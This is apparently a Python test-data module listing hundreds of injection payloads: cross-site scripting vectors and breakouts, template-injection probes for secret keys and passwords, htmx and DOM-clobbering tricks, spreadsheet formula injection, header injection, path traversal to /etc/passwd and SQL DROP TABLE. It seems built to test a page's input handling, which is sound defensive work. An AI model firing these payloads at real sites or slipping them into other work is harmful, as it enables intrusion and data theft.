"""Texts that attack a page which takes them for more than text.

Each tries to run `alert()`, to load something from x.invalid, to leave the page, or to change what its
elements do. Most fit the shortest field in which a person writes a name.
"""

TAGS = r"""
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script
<script >alert(1)</script >
<<script>alert(1)//<</script>
<script src=//x.invalid/a.js></script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
<script nonce="">alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"/>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror	=	alert(1)>
<img src=//x.invalid/p.png>
<img srcset="//x.invalid/s.png 1x">
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<textarea autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<details open ontoggle=alert(1)>x</details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<video poster=//x.invalid/v.png></video>
<marquee onstart=alert(1)>x</marquee>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>">
<iframe src=//x.invalid></iframe>
<iframe onload=alert(1)></iframe>
<object data=javascript:alert(1)></object>
<object data=//x.invalid/o.swf></object>
<embed src=javascript:alert(1)>
<embed src=//x.invalid/e.swf>
<link rel=stylesheet href=//x.invalid/c.css>
<link rel=preload as=image href=//x.invalid/l.png onload=alert(1)>
<style>@import '//x.invalid/i.css';</style>
<style>*{background:url(//x.invalid/b.png)}</style>
<style onload=alert(1)></style>
<meta http-equiv=refresh content="0;url=//x.invalid">
<meta http-equiv=refresh content="0;javascript:alert(1)">
<base href=//x.invalid/>
<form action=//x.invalid><button>x</button></form>
<form id=f><button form=f formaction=javascript:alert(1)>x
<dialog open onclose=alert(1)>x</dialog>
<div style="background:url(//x.invalid/d.png)">x</div>
<div style=width:expression(alert(1))>x</div>
<p onpointerover=alert(1) style=position:fixed;inset:0>x
<div onanimationstart=alert(1) style=animation:spin>x
<div contenteditable autofocus onfocus=alert(1)>x</div>
<x tabindex=1 autofocus onfocus=alert(1)>x</x>
<frameset onload=alert(1)>
<table background=//x.invalid/t.png><td>x</table>
<portal src=//x.invalid onload=alert(1)>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>
<template shadowrootmode=open><script>alert(1)</script>
<slot onslotchange=alert(1)>x</slot>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<isindex type=image src=x onerror=alert(1)>
<bgsound src=//x.invalid/s.wav>
"""

FOREIGN = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=//x.invalid/s.js /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><set attributeName=href to=javascript:alert(1) />x
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject>
<svg><image href=//x.invalid/i.png /></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href=javascript:alert(1)>x</math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<math><mglyph><style><img src=x onerror=alert(1)>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><svg onload=alert(1) />
"""

BREAKOUTS = r"""
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)" style="position:fixed;inset:0
' onmouseover='alert(1)' x='
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
x onfocus=alert(1) autofocus
x/onerror=alert(1)//
`"'><svg onload=alert(1)>
"/><svg/onload=alert(1)>
" src=//x.invalid/q.png "
"--><svg onload=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</template><script>alert(1)</script>
</noscript><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
</svg><script>alert(1)</script>
</iframe><script>alert(1)</script>
</p></li></ul></main><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
*/alert(1)/*
';alert(1);//
";alert(1);//
\';alert(1);//
\";alert(1);//
`;alert(1);//
${alert(1)}
'+alert(1)+'
"-alert(1)-"
</script><!--<script>alert(1)
{"a":"</script><script>alert(1)</script>"}
"}]}</script><svg onload=alert(1)>
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
"""

ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java	script:alert(1)
javascript://%0aalert(1)
javascript:/*--></title></script>*/alert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
//x.invalid/open
https://x.invalid\@localhost/
http://x.invalid" onclick="alert(1)
https://x.invalid/'onclick='alert(1)
https://x.invalid/<script>alert(1)</script>
mailto:a@x.invalid"onclick="alert(1)
a@x.invalid"><script>alert(1)</script>
www.x.invalid/"onmouseover="alert(1)
"""

TEMPLATES = r"""
{{7*7}}
{{ request.user.password }}
{{ settings.SECRET_KEY }}
{% debug %}
{% include "registration/login.html" %}
{% load static %}{% endblock %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
${7*7}
#{7*7}
<%= 7*7 %>
%(secret)s %s %d
{0.__class__} {user.password}
{{constructor.constructor('alert(1)')()}}
[[${7*7}]]
"""

HTMX = r"""
<a hx-get=//x.invalid hx-trigger=load>x</a>
<p hx-get=/deconnexion/ hx-trigger=load>x</p>
<p data-hx-post=/deconnexion/ data-hx-trigger=load>x</p>
<p hx-on:click=alert(1) hx-trigger=load>x</p>
<p hx-on::load=alert(1)>x</p>
<p data-hx-on--load=alert(1)>x</p>
<p hx-get=/ hx-vals='js:{a:alert(1)}' hx-trigger=load>x
<p hx-get=/ hx-headers='js:{a:alert(1)}' hx-trigger=load>
<p hx-trigger="load[alert(1)]" hx-get=/>x</p>
<p hx-swap-oob=true id=main>gone</p>
<p hx-ext=x hx-boost=true><a href=//x.invalid>x</a></p>
"""

CLOBBERING = r"""
<form id=site-search name=body><input name=action></form>
<a id=document name=cookie href=//x.invalid>x</a>
<img name=getElementById><img name=querySelector>
<p data-typed-note data-signs-out data-player data-popup data-print>x</p>
<p id=commentaires data-listing>x</p>
<p id=__proto__ name=constructor>x</p>
__proto__[polluted]=1
"""

WRITING = r"""
=cmd|'/c calc'!A1
+cmd|'/c calc'!A1
-2+3+cmd|'/c calc'!A1
@SUM(1+1)*cmd|'/c calc'!A1
=HYPERLINK("//x.invalid","x")
WEBVTT <c.onclick><v alert(1)><b onload=alert(1)>x</b>
<v x onmouseover=alert(1)>x</v><00:00:01.000>
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)%253C/script%253E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<scr​ipt>alert(1)</scr​ipt>
<‮script>alert(1)</script>‬
<​img src=x onerror=alert(1)>
İ<img src=x onerror=alert(1)>ﬃ
é<svg onload=alert(1)>𝒳
a‮gnp.exe⁦⁩
**x**<img src=x onerror=alert(1)>[x](javascript:alert(1))
[x](javascript:alert(1)) ![x](//x.invalid/m.png)
'"`><\/&;{}[]()$%#@!|~^*?
X-Header: a%0d%0aSet-Cookie: x=1
../../../../etc/passwd
'; DROP TABLE x; --
"""

# Texts that break out of most contexts at once; too long for a name.
LONG = r"""
jaVasCript:/*-/*`'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt--!><sVg/oNloAd=alert()>
'"--></style></title></textarea></script></template><details open ontoggle=alert(1)><img src onerror=alert(1)>
"""


def _lines(*texts: str) -> list[str]:
    return [line for text in texts for line in text.split("\n") if line]


PAYLOADS = [
    *_lines(TAGS, FOREIGN, BREAKOUTS, ADDRESSES, TEMPLATES, HTMX, CLOBBERING, WRITING, LONG),
]
